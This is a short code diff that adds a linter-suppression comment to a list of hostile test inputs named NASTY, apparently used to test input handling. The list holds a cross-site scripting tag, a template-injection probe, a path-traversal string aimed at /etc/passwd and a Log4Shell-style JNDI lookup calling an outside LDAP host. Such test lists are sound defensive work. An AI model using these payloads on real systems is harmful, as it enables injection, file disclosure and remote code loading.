@@ -18,6 +18,7 @@ export const NASTY = [
   '<script>alert(1)</script>',
   '{{7*7}}',
   '../../etc/passwd',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack uses this literal text
   '${jndi:ldap://example.in/a}',
   '9'.repeat(400),
   'a'.repeat(10_000),
